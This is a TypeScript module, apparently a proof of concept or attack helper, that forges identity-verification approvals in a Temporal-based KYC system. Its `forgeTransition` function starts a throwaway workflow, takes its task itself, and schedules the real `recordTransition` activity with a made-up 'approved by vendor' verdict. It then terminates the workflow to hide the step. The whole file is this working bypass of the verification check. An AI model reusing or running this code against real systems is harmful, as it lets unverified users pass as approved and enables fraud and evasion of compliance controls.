import { setTimeout as pause } from 'node:timers/promises';
import type { Client } from '@temporalio/client';
import { defaultPayloadConverter } from '@temporalio/common';
import proto from '@temporalio/proto';

const { temporal } = proto;
const QUEUE = 'somebody-else';
const TIME_TO_WRITE_MS = 4_000;
const { CommandType } = temporal.api.enums.v1;
const { ScheduleActivityTaskCommandAttributes } = temporal.api.command.v1;

/** A write that says: approved, by the vendor. No message stands behind it. */
const approvalOf = (verificationId: string): object => ({
  verificationId,
  write: 1,
  causes: [],
  status: 'approved',
  reasons: [],
  vendorCode: null,
  attemptsUsed: 0,
  endedSessions: [],
  parts: {},
  verdict: { status: 'approved', reasons: [], session: 1, decidedBy: 'vendor' },
});

/**
 * Runs a workflow of somebody else's, by Temporal's API alone: its one task schedules our activity
 * `recordTransition` with an invented approval, on the queue that our workers poll. Then it is gone.
 */
export async function forgeTransition(
  client: Client,
  verificationId: string,
  workflowId: string,
): Promise<void> {
  const { workflowService } = client;
  const { namespace } = client.options;
  const taskQueue = { name: `${QUEUE}/${workflowId}` };
  await workflowService.startWorkflowExecution({
    namespace,
    workflowId,
    workflowType: { name: 'verification' },
    taskQueue,
    identity: QUEUE,
    requestId: `${workflowId}/${Date.now()}`,
  });
  const task = await workflowService.pollWorkflowTaskQueue({
    namespace,
    taskQueue,
    identity: QUEUE,
  });
  const activity = ScheduleActivityTaskCommandAttributes.fromObject({
    activityId: '1',
    activityType: { name: 'recordTransition' },
    taskQueue: { name: 'kyc-verification' },
    input: { payloads: [defaultPayloadConverter.toPayload(approvalOf(verificationId))] },
    startToCloseTimeout: { seconds: 10 },
    scheduleToCloseTimeout: { seconds: 20 },
    retryPolicy: { maximumAttempts: 2 },
  });
  await workflowService.respondWorkflowTaskCompleted({
    namespace,
    taskToken: task.taskToken,
    identity: QUEUE,
    commands: [
      {
        commandType: CommandType.COMMAND_TYPE_SCHEDULE_ACTIVITY_TASK,
        scheduleActivityTaskCommandAttributes: activity,
      },
    ],
  });
  await pause(TIME_TO_WRITE_MS);
  await client.workflow.getHandle(workflowId).terminate('it is done');
}
